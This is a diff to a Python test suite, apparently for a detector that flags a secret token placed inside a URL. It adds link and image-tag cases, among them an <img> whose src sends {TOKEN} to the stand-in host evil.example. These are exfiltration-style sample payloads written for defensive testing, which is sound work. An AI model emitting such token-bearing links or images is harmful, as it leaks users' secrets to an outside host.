@@ -44,6 +44,9 @@ IN_LINKS = [
     f"[x](https:&#47;&#47;evil.example/?q={TOKEN})",
     f"[x](https:&#x2F;&#x2F;evil.example/?q={TOKEN})",
     f"![]({EVIL}/{'a' * (LINK_REACH + 10)}{TOKEN})",
+    f'<img\n  src="{EVIL}/p.png\n?d={TOKEN}">',
+    f"see www.evil.example/?q={TOKEN}",
+    f"preview evil.example?q={TOKEN}",
 ]
 NOT_IN_LINKS = [
     TOKEN,
@@ -56,6 +59,9 @@ NOT_IN_LINKS = [
     f'{{"site": "{EVIL}", "to": "{TOKEN}"}}',
     f"<p>{EVIL}</p> {TOKEN}",
     "x" * (LINK_REACH - 1) + TOKEN,
+    f"Is that right? Yes: {TOKEN}",
+    f"a=b, c=d {TOKEN}",
+    f"<b>{EVIL}</b>\n{TOKEN}",
 ]
 
 
@@ -69,10 +75,11 @@ def test_a_token_beside_a_url_does_not(text: str) -> None:
     assert not in_link(text, text.index(TOKEN))
 
 
-# Prose that holds no URL and no token: no slash, backslash, entity, bracket or "<".
+# Prose that holds no URL and no token: no slash, backslash, entity, query, "www.",
+# bracket or "<".
 _PROSE = st.text(
     alphabet=st.characters(
-        blacklist_characters="/\\&<[]", blacklist_categories=("Cs",), max_codepoint=0x2FFF
+        blacklist_characters="/\\&?w<[]", blacklist_categories=("Cs",), max_codepoint=0x2FFF
     ),
     max_size=40,
 )
@@ -86,14 +93,14 @@ _URL = st.builds(
 )
 
 
-@settings(max_examples=200)
+@settings(max_examples=300)
 @given(before=_PROSE, url=_URL, after=st.text(max_size=20))
 def test_a_token_glued_to_a_url_stands_in_it(before: str, url: str, after: str) -> None:
     text = f"{before} {url}{TOKEN}{after}"
     assert in_link(text, len(before) + 1 + len(url))
 
 
-@settings(max_examples=200)
+@settings(max_examples=300)
 @given(
     before=_PROSE,
     url=_URL,
